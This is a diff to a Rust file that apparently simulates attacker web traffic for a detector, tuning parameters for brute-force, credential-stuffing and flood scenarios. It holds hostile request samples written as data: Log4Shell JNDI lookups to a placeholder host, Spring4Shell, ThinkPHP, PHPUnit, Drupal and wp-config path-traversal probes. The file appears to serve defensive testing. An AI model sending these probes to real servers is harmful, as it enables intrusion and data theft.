@@ -10,6 +10,7 @@ const ATTACKER: Kind = Kind {
     clients: 3,
     from: From::Apart,
     agent: BROWSER,
+    within: 24,
     pace: (50, 400),
     length: (40, 60),
     order: Order::Straight,
@@ -65,6 +66,7 @@ fn hunters() -> Vec<Kind> {
         Kind { name: "secrets sought", moves: SECRETS, length: (12, 30), ..ATTACKER },
         Kind {
             name: "crawler that lies",
+            finds: Finds::Tell,
             agent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
             moves: LYING,
             length: (30, 60),
@@ -141,7 +143,7 @@ fn guessers() -> Vec<Kind> {
         Kind { name: "passwords through xmlrpc", moves: "POST /xmlrpc.php 200", ..ATTACKER },
         Kind {
             name: "passwords, basic authentication",
-            moves: "GET /private/ 401",
+            moves: "GET /private/ 401 - {admin|root|test}",
             agent: "Mozilla/4.0 (Hydra)",
             held: true,
             ..ATTACKER
@@ -173,6 +175,7 @@ fn guessers() -> Vec<Kind> {
         Kind {
             name: "stolen passwords, many addresses",
             clients: 200,
+            within: 1,
             moves: "POST /account/login 401",
             length: (1, 2),
             pace: (1_000, 3_000),
@@ -188,7 +191,7 @@ fn floods() -> Vec<Kind> {
             name: "unique queries",
             moves: "GET /search?q={x}{x}&page={i} 200",
             pace: (5, 15),
-            length: (1500, 1500),
+            length: (600, 600),
             clients: 1,
             ..ATTACKER
         },
@@ -196,7 +199,7 @@ fn floods() -> Vec<Kind> {
             name: "one page again and again",
             moves: "GET /?{x} 200",
             pace: (3, 10),
-            length: (1500, 1500),
+            length: (600, 600),
             clients: 1,
             held: true,
             ..ATTACKER
@@ -354,7 +357,7 @@ GET /index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_ar
 POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php 404
 GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php 404
 POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax 404";
-const JAVA: &str = "GET /?x=${jndi:ldap://192.0.2.9/{x}} 200
+const JAVA: &str = "GET /?x=$%7Bjndi:ldap://192.0.2.9/{x}%7D 200
 GET /%24%7Bjndi:rmi://192.0.2.9/{x}%7D 404
 GET /login?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x 200
 POST /functionRouter 404
